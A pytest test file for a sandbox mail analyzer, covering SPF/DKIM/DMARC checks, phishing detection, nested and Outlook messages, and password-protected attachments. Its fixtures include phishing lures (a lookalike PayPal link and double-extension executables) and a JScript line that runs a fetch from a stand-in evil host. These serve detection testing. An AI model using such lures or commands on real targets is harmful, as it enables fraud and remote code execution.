"""Mails through the sandbox, with a DNS that a test writes."""

import zipfile
from io import BytesIO

import pytest

from stack.analysis.analyzers.mail import Analyzer
from stack.analysis.answers import Answer
from stack.analysis.resolving.replies import DnsReply, Outcome
from stack.analysis.subjects import MESSAGE, Subject
from stack.analysis.verdicts import weigh_evidence
from stack.core.known_good import Category, KnownGood
from tests.analysis_tools import ToldResolver, ToldTools
from tests.mails import make_key, seal_mail, sign_mail, write_attachment, write_mail, write_parts
from tests.outlook_messages import make_compound, message_tree

KEY, RELAY = make_key("firm.example"), make_key("list.example")
DNS = {
    (KEY.name, "TXT"): (KEY.record,),
    (RELAY.name, "TXT"): (RELAY.record,),
    ("firm.example", "TXT"): ("v=spf1 include:_spf.firm.example exists:%{ir}.ok.firm.example -all",),
    ("_spf.firm.example", "TXT"): ("v=spf1 ip4:192.0.2.0/24 -all",),
    ("7.100.51.198.ok.firm.example", "A"): ("127.0.0.2",),
    ("_dmarc.firm.example", "TXT"): ("v=DMARC1; p=reject",),
    ("firm.example", "MX"): ("10 mx.firm.example",),
    ("firm.example", "A"): ("192.0.2.1",),
}


class Zone(ToldResolver):
    """What is not in it does not exist."""

    def ask(self, name: str, record: str) -> DnsReply:
        texts = self.lookup(name, record)
        return DnsReply(Outcome.FOUND if texts else Outcome.ABSENT, texts)


def analyze(data: bytes, *, dns: bool = True, passwords: tuple[str, ...] = ()) -> Answer:
    good: dict[str, tuple[KnownGood, ...]] = {"list.example": (KnownGood("tranco", Category.FALSE_POSITIVE),)}
    tools = ToldTools(sample=data, resolver=Zone(DNS) if dns else None, passwords=passwords, known_good=good)
    return Analyzer.analyze(Subject(MESSAGE, "0" * 64, name="mail.eml", size=len(data)), tools)


def codes(answer: Answer) -> set[str]:
    return {each.code for each in answer.evidence}


def name_verdict(answer: Answer) -> str:
    return weigh_evidence([("mail", each) for each in answer.evidence], now=0).word


def test_a_signed_mail_is_vouched_for_and_a_forged_one_is_not() -> None:
    held = analyze(sign_mail(write_mail(), KEY))
    # The macro of the SPF record was expanded here, and asked for in a further round.
    assert {"mail.signed-by-author", "mail.spf-pass", "mail.dmarc-pass"} <= codes(held)
    assert name_verdict(held) in {"unknown", "benign"}

    forged = analyze(write_mail(client="203.0.113.66"))
    assert {"mail.spf-fail", "mail.dmarc-fail", "mail.unsigned"} <= codes(forged)
    assert name_verdict(forged) == "suspicious"


def test_a_chain_vouches_for_what_a_list_changed() -> None:
    changed = sign_mail(write_mail(), KEY).replace(b"tomorrow", b"today")
    sealed = seal_mail(changed, RELAY, results="list.example; dkim=pass header.d=firm.example")
    found = analyze(sealed.replace(b"198.51.100.7", b"203.0.113.7"))
    assert {"mail.chain-holds", "mail.body-changed"} <= codes(found)
    weight = next(each.weight for each in found.evidence if each.code == "mail.dmarc-fail")
    assert weight < 1


def test_without_dns_nothing_is_claimed() -> None:
    answer = analyze(sign_mail(write_mail(), KEY), dns=False)
    assert "mail.signature-unverified" in codes(answer)
    assert not any(code.startswith(("mail.spf-", "mail.dmarc-")) for code in codes(answer))
    assert name_verdict(answer) == "unknown"


def test_phishing_is_malicious_and_every_value_can_be_followed() -> None:
    answer = analyze(
        write_parts(
            'Content-Type: text/html\r\n\r\n<a href="https://paypal-login.example/a?b">https://www.paypal.com</a>',
            write_attachment("invoice.pdf.exe", b"MZ" + bytes(500)),
            sender="PayPal Service <service@paypa1-mail.example>",
        )
    )
    assert {"mail.url.host.lookalike.lure", "mail.file.name.double-ending"} <= codes(answer)
    assert "mail.name-is-brand" in codes(answer)
    assert name_verdict(answer) == "malicious"
    pivots = {(each.kind, each.value) for each in answer.pivots}
    assert {
        ("url", "https://paypal-login.example/a?b"),
        ("email", "service@paypa1-mail.example"),
        ("ipv4", "198.51.100.7"),
    } <= pivots
    assert ("email", "desk@corp.example") not in pivots
    place = {each.value: each.name for each in answer.facts if each.section == "Indicators"}
    assert place["https://paypal-login.example/a?b"] == "link in HTML body"


def test_mails_within_mails_are_judged_too() -> None:
    inner = write_mail(sender='"ceo@corp.example" <x@evil.example>').decode()
    outer = write_parts(
        "Content-Type: text/plain\r\n\r\nIs this real?\r\n",
        f'Content-Type: message/rfc822; name="odd.eml"\r\n\r\n{inner}',
        sender="Colleague <c@corp.example>",
    )
    answer = analyze(outer)
    (found,) = [each for each in answer.evidence if each.code == "mail.name-is-address"]
    assert found.statement.startswith("In the mail “odd.eml”: ")
    assert any(each.section == "odd.eml: Header" for each in answer.facts)


def test_an_outlook_message_with_an_attachment_and_a_message_within() -> None:
    inner = message_tree({"0037": "inner", "0C1A": "ceo@corp.example", "5D01": "x@evil.example"})
    tree = message_tree(
        {"0037": "Scan", "0C1A": "Anna", "5D01": "anna@firm.example", "1000": "see there"},
        attachments=(("scan.pdf.exe", b"MZ" + bytes(5_000)),),
        embedded=inner,
    )
    answer = analyze(make_compound(tree))
    assert answer.summary.startswith("“Scan” from anna@firm.example, 1 attached")
    assert {"mail.file.name.double-ending", "mail.name-is-address"} <= codes(answer)


def test_the_password_in_the_text_opens_what_is_attached() -> None:
    pyzipper = pytest.importorskip("pyzipper")
    buffer = BytesIO()
    with pyzipper.AESZipFile(
        buffer, "w", encryption=pyzipper.WZ_AES, compression=zipfile.ZIP_DEFLATED
    ) as archive:
        archive.setpassword(b"7Tulips!")
        archive.writestr("order.js", "new ActiveXObject('WScript.Shell').Run('http://evil.example/a')")
    attached = write_attachment("order.zip", buffer.getvalue(), "application/zip")
    answer = analyze(write_parts("Content-Type: text/plain\r\n\r\nPassword: 7Tulips!\r\n", attached))
    assert "mail.password-beside" in codes(answer)
    assert ("url", "http://evil.example/a") in {(each.kind, each.value) for each in answer.pivots}
